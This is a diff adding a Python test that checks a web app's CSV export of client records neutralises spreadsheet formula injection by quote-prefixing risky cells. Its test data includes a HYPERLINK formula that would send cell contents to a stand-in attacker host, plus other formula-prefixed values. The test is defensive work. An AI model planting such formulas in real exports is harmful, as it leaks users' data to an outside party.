@@ -170,3 +170,21 @@ def test_csv_export_of_a_filtered_list(client, am_alice, am_oscar):
     assert row["contact_emails"] == "pat1@example.com"
     everything = b"".join(client.get("/clients/export.csv?scope=team").streaming_content).decode()
     assert "Other team" not in everything and everything.count("\n") == 4
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+def test_csv_export_neutralises_formulas(client, am_alice):
+    ClientFactory(name=FORMULA, external_id="+1-CMD", owner=am_alice, team=am_alice.team)
+    ClientFactory(name="@SUM(A1:A9)", external_id="-2+3", owner=am_alice, team=am_alice.team)
+    ClientFactory(name="\tTabbed", external_id="\rReturn", owner=am_alice, team=am_alice.team)
+    client.force_login(am_alice)
+    response = client.get("/clients/export.csv?scope=mine")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    cells = {(row[0], row[1]) for row in rows[1:]}
+    assert cells == {
+        ("'" + FORMULA, "'+1-CMD"),
+        ("'@SUM(A1:A9)", "'-2+3"),
+        ("'\tTabbed", "'\rReturn"),
+    }
